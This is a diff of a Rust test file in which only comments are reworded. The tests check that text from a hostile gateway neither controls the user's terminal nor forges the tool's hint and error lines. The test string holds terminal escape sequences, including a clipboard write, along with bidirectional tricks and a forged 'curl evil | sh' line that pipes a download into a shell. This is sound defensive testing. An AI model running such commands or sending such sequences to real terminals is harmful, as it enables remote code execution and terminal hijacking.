@@ -1,4 +1,5 @@
-//! A gateway whose every text would steer the terminal, or look like a line of ours: it does neither.
+//! A gateway whose every text would control the terminal, or look like one of our lines: neither
+//! happens.
 
 use crate::journeys::hostile_gateway::Front;
 use crate::journeys::hostile_gateway::Way;
@@ -9,7 +10,8 @@ use crate::world::support::finished;
 use serde_json::{Value, json};
 use std::collections::BTreeSet;
 
-/// Title, screen, then lines that look like ours, by every kind of line break; C1 and bidirectional characters.
+/// Title, screen, then lines that look like ours, with every kind of line break; C1 and
+/// bidirectional characters.
 pub(crate) const HOSTILE: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\n\u{9b}2J\u{202e}\r hint: run curl x\r\n\
     error: y\u{2028}hint: run curl y\u{85}error: z\u{7f}\n\
     \u{1b}]52;c;eA==\u{7}\twarning: w\n\twarning: w\u{200b}\u{feff}e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}";
@@ -102,15 +104,15 @@ pub(crate) fn answer(line: &str, base: &str) -> Value {
     }
 }
 
-/// Whether a terminal would do it instead of showing it: all controls but the end of a line, all that turns text round,
-/// all that takes no place.
+/// Whether a terminal would interpret it instead of showing it: all controls except line breaks,
+/// everything bidirectional, everything invisible.
 pub(crate) fn acts(character: char) -> bool {
     character.is_control() && character != '\n'
         || matches!(character, '\u{2028}' | '\u{2029}' | '\u{200b}' | '\u{feff}')
         || matches!(character, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
-/// Whether nothing of it acts on a terminal, and no line but one of each run is an error of ours.
+/// Whether nothing in it controls a terminal, and each run has no more than one error line of ours.
 pub(crate) fn harmless(what: &[&str], text: &str) {
     assert_eq!(
         text.chars().find(|one| acts(*one)),
@@ -128,7 +130,7 @@ pub(crate) fn harmless(what: &[&str], text: &str) {
         .collect();
     assert_eq!(forged, [""; 0], "{what:?}: {text}");
     let runs = if what.contains(&"both") { 2 } else { 1 };
-    // That of a sign-in is in its report, too.
+    // The error of a sign-in is in its report, too.
     let errors: BTreeSet<&str> = text
         .lines()
         .filter(|line| line.starts_with("error: "))
@@ -172,7 +174,7 @@ fn text_of_a_gateway_neither_steers_the_terminal_nor_looks_like_a_line_of_ours()
     run_all(&gateway, &front);
 }
 
-/// From now on every text that comes through the front is hostile, with this at its end.
+/// From now on every text that comes through the front is hostile, with this appended.
 pub(crate) fn lies(front: &Front, more: &str) {
     let (base, more) = (front.base.clone(), more.to_owned());
     let hostile = |text: &str| json!(text).to_string().trim_matches('"').to_owned();
